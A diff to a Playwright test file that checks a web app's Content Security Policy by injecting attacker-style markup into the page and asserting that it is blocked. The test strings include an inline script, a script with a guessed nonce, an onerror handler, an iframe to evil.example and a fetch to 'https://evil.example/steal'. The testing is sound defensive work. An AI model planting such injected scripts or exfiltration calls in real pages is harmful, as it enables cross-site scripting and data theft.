@@ -42,24 +42,35 @@ test('every script of the page carries the nonce of its response', async () => {
   }
 });
 
-test('an inline script, an event handler and a script from elsewhere do not run', async () => {
-  const { page } = await openWorkbench(browser, { context });
-  const ran = await page.evaluate(async () => {
-    const script = document.createElement('script');
-    script.textContent = 'globalThis.ranInline = true';
-    const holder = document.createElement('div');
-    holder.innerHTML =
-      '<img src="data:," onerror="globalThis.ranHandler = true"><iframe src="https://evil.example"></iframe>';
-    // What the debugger does in its own turn is exempt from the policy, so the page does it a turn later.
-    setTimeout(() => document.body.append(script, holder), 0);
-    await fetch('https://evil.example/steal').catch(() => undefined);
-    await new Promise((resolve) => setTimeout(resolve, 500));
-    const found = globalThis as unknown as Record<string, unknown>;
-    return [found['ranInline'], found['ranHandler']];
+/** The workbench's page as if an attacker had got markup into it: the server's own headers, one more piece of HTML. */
+async function openWithMarkup(markup: string): Promise<Page> {
+  const page = await context.newPage();
+  await page.route(serverUrl() + '/', async (route) => {
+    const response = await route.fetch();
+    const html = await response.text();
+    await route.fulfill({ response, body: html.replace('</body>', `${markup}</body>`) });
   });
-  expect(ran).toEqual([undefined, undefined]);
+  await page.goto(serverUrl());
+  await page.waitForSelector('[data-workbench]');
+  return page;
+}
+
+test('an inline script, an event handler and a script from elsewhere do not run', async () => {
+  const page = await openWithMarkup(
+    [
+      '<script>globalThis.ranInline = true</script>',
+      '<script nonce="guessed">globalThis.ranGuessed = true</script>',
+      '<script src="/api/health"></script>',
+      '<img src="data:," onerror="globalThis.ranHandler = true">',
+      '<iframe src="https://evil.example"></iframe>',
+    ].join(''),
+  );
+  await page.evaluate(() => fetch('https://evil.example/steal').catch(() => undefined));
+  const ran = await page.evaluate(() => ['ranInline', 'ranGuessed', 'ranHandler'].filter((name) => name in globalThis));
+  expect(ran).toEqual([]);
   const noted = (await violations(page)).join('\n');
-  expect(noted).toContain('script-src-elem inline');
+  expect(noted.match(/script-src-elem inline/g)).toHaveLength(2);
+  expect(noted).toContain('script-src-elem ' + serverUrl() + '/api/health');
   expect(noted).toContain('script-src-attr inline');
   expect(noted).toMatch(/frame-src https:\/\/evil\.example/);
   expect(noted).toContain('connect-src https://evil.example/steal');
